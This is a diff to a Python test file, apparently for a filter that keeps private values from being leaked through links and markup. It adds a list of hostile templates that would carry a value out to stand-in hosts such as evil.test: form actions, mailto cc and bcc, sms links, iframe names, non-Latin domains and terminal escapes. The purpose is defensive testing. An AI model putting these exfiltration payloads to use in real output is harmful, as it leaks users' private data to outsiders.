@@ -96,7 +96,13 @@ HOSTILE = [
     "https://evil.test/?a=\u00a0{}", 'https://evil.test/"{}', "git@evil.test:{}/x.git", "ssh://git@evil.test/{}", "{}@evil.test",
     "![x]({}://evil.test/p)", "```\n<img src=javascript:{}>", "\u3002{}evil.com", "<form action='https://evil.test/'><input value='{}'>", "<base href='https://evil.test/'><img src='/{}'>", "\x1b]8;;https://evil.test/{}\x1b\\x", "https://ok.test:8443/{}", "http://ok.test:80/{}",
     "<img src=" + '"https://evil.test/' + "y " * 2000 + '{}">', "<a href='https:" + "\t" * 3000 + "evil/{}'>", "<a href='http:" + "&#9;" * 999 + "evil/{}'>",
-    "https://evil.test/" + "y" * 5000 + "{}", "$\\href{{https://evil.test/ {}}}{{x}}$",
+    "<form action=//evil.test><textarea name=q>{}</textarea></form>", "<form><select><option>{}</select>", "<textarea form=f>{}</textarea>",
+    "<option\nFORM = 'f' name=q> a {}", "<button formaction=//evil.test name=q value='{}'>", "<input form=f value='{}'><form id=f action=//evil.test>",
+    "<input name=q value=x {}='y'>", "<iframe name='{}' src='https://evil.test/'>", "<iframe src='https://evil.test/' name={}>", "<a target='{}' href=x>", "<object name='{}'>",
+    "<select name='{}'>", "<img data-x='{}' src='https://evil.test/'>", "mailto:evil@evil.test?body={}", "write to mailto:evil@evil.test,{}", "sms:+1900?body={}",
+    "smsto:+1900:{}", "<mailto:evil@evil.test?subject=a&body={}>", "[x](mailto:{}?bcc=evil@evil.test)", "mailto:{}?cc=evil@evil.test", "[x](mailto:{}?subject=a&%62cc=evil@evil.test)",
+    "<a href='mailto:{}?subject=a&amp;cc=evil@evil.test'>", "whatsapp:send?text={}", "magnet:?xt={}", "evil.рф/{}", "evil.рф:80/{}", "{}.рф", "evil.中国/{}",
+    "evil.مصر/{}", "https://evil.test/" + "y" * 5000 + "{}", "$\\href{{https://evil.test/ {}}}{{x}}$",
 ]  # fmt: skip
 
 
@@ -125,6 +131,17 @@ def test_hostile_addresses_keep_the_stand_in(template, spelled):
         ("```html\n<script>x = '{}'</script>\n```\n{}", "```html\n<script>x = 'Annaxq'</script>\n```\nAnnaxq"),
         ("if a <b and c: {} // {} said", "if a <b and c: Annaxq // Annaxq said"),
         ("file:///home/{}/x", "file:///home/Annaxq/x"),
+        ("<person name='{}' id={}> <p data-x='{}'>", "<person name='Annaxq' id=Annaxq> <p data-x='Annaxq'>"),
+        (
+            "<a title='{}' href=x>{}</a> <input placeholder='{}'>",
+            "<a title='Annaxq' href=x>Annaxq</a> <input placeholder='Annaxq'>",
+        ),
+        ("Use <textarea> or <option>, {}.", "Use <textarea> or <option>, Annaxq."),
+        ("Note: {} time:12:{}", "Note: Annaxq time:12:Annaxq"),
+        ("mailto:{} [m](mailto:{}?subject=Hello)", "mailto:Annaxq [m](mailto:Annaxq?subject=Hello)"),
+        ("tel:{}", "tel:Annaxq"),
+        ("напр. {}/x и.т.д. {}", "напр. Annaxq/x и.т.д. Annaxq"),
+        ("完了。次/{}", "完了。次/Annaxq"),
     ],
 )
 def test_words_and_permitted_addresses_are_restored(text, expected):
